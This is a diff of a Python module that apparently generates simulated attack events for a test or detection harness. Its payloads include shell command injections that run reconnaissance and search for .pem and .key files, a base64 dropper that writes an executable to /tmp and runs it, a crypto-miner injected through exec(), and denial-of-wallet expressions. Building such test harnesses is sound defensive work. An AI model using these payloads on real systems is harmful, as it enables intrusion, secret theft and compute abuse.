@@ -33,7 +33,7 @@ def _eval_then_guest(expression):
 
 
 def _exec_then_guest(code):
-    return _eval_then_guest(f"exec({code!r})")
+    return _eval_then_guest(f"exec({code!r}, {{}})")
 
 
 def _system(command):
@@ -54,7 +54,8 @@ def command_injection(rng, ports, scale):
         ("recon", f"{BREAK} id; uname -a; head -3 /etc/os-release #"),
         ("subshell", "6 $(id >&2; ls -la /var/task >&2; hostname >&2)"),
         ("chained", f"{BREAK} id && ls /opt /var/task && ps -ef | head -20 #"),
-        ("search", f"{BREAK} id; find / -maxdepth 3 -name '*.pem' -o -maxdepth 3 -name '*.key' 2>/dev/null | head #"),
+        ("search", f"{BREAK} id; find / -maxdepth 3 -name '*.pem' -o -maxdepth 3 -name '*.key' "
+                   "2>/dev/null | head #"),
     ))
     return _doc_event(rng, line), variant, {"output_contains": "uid="}
 
@@ -71,7 +72,8 @@ def dropper(rng, ports, scale):
     else:
         with open(STAGE_BINARY, "rb") as f:
             blob = p.b64(f.read())
-        line = f"{BREAK} echo {blob} | base64 -d > /tmp/x86_64 && chmod +x /tmp/x86_64 && /tmp/x86_64 -a; rm -f /tmp/x86_64 #"
+        line = (f"{BREAK} echo {blob} | base64 -d > /tmp/x86_64 && chmod +x /tmp/x86_64 "
+                "&& /tmp/x86_64 -a; rm -f /tmp/x86_64 #")
     return _doc_event(rng, line), choice, {"output_contains": "Linux"}
 
 
@@ -142,15 +144,16 @@ def crypto_mining(rng, ports, scale):
     agent = rng.choice(("cpuminer/2.5.1", "xmrig/6.21.0", "python-miner/0.3"))
     worker = f"4{rng.getrandbits(64):016x}.w{rng.randint(1, 9)}"
     code = p.miner(ports["pool"], algorithm, round(rng.uniform(1.0, 2.0), 2), agent, worker)
-    expression = f"exec({code!r}) or base * qty"
-    return _rule_event(rng, expression), algorithm, {"pool_methods": ["mining.subscribe", "mining.authorize", "mining.submit"]}
+    expression = f"exec({code!r}, {{}}) or base * qty"
+    expect = {"pool_methods": ["mining.subscribe", "mining.authorize", "mining.submit"]}
+    return _rule_event(rng, expression), algorithm, expect
 
 
 def denial_of_wallet(rng, ports, scale):
     choice, expression, variables = rng.choice((
         ("generator-sum", "sum(i * i for i in range(10**11))", None),
         ("nested-loop", "sum(1 for a in range(10**6) for b in range(10**6)) * base", None),
-        ("huge-qty", "max(base * (1 - d / qty) for d in range(qty))", {"base": 9.99, "qty": 10**12}),
+        ("huge-qty", "base * max(1 - d / 1e12 for d in range(qty))", {"base": 9.99, "qty": 10**12}),
         ("sqrt-series", "base * sum(math.sqrt(n) for n in range(1, qty))", {"base": 1.0, "qty": 10**13}),
     ))
     return _rule_event(rng, expression, variables), choice, {"status": "timeout"}
